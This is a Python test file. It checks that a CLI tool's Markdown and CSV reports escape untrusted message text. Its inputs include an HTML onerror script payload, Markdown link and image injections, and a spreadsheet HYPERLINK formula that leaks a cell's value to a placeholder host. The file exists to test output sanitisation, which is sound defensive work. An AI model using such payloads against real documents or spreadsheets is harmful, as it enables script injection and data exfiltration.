"""The Markdown report keeps data from the wild as text: no HTML, image, link or mention."""

from __future__ import annotations

import pytest

from support.cli import run


def test_markdown_report_cells_from_messages_stay_text(
    capsys: pytest.CaptureFixture[str],
) -> None:
    message = "<img src=x onerror=alert(1)> ![px](http://x/p.png) [go](http://x) @ops | #1"
    code, _, err = run(capsys, "observe", message, "-i", "<b>web-1</b>", "-a", "wiped")
    assert code == 0, err
    code, out, err = run(capsys, "report", "--format", "md")
    assert code == 0, err
    row = out.splitlines()[2]
    assert row.count(" | ") == 14  # the pipe in the message did not add a column
    for raw in ("<img", "<b>", "![px]", "[go](", "@ops", " #1"):
        assert raw not in row, raw
    assert (
        "&lt;img src\\=x onerror\\=alert\\(1\\)&gt;" in row and "&lt;b&gt;web\\-1&lt;/b&gt;" in row
    )
    assert "| 2026-" in row  # the bridge's own values are not escaped


def test_csv_report_cells_from_messages_do_not_run_as_spreadsheet_formulas(
    capsys: pytest.CaptureFixture[str],
) -> None:
    import csv
    import io

    message = '=HYPERLINK("http://x/?leak="&A1,"click")'
    code, _, err = run(capsys, "observe", message, "-i", "@web-1", "-a", "wiped")
    assert code == 0, err
    code, out, err = run(capsys, "report", "--format", "csv")
    assert code == 0, err
    header, row = list(csv.reader(io.StringIO(out)))
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'" + message
    assert all(not c.startswith(("=", "+", "@")) for c in row), row
    assert cells["sightings"] == "1"  # the bridge's own numbers stay numbers
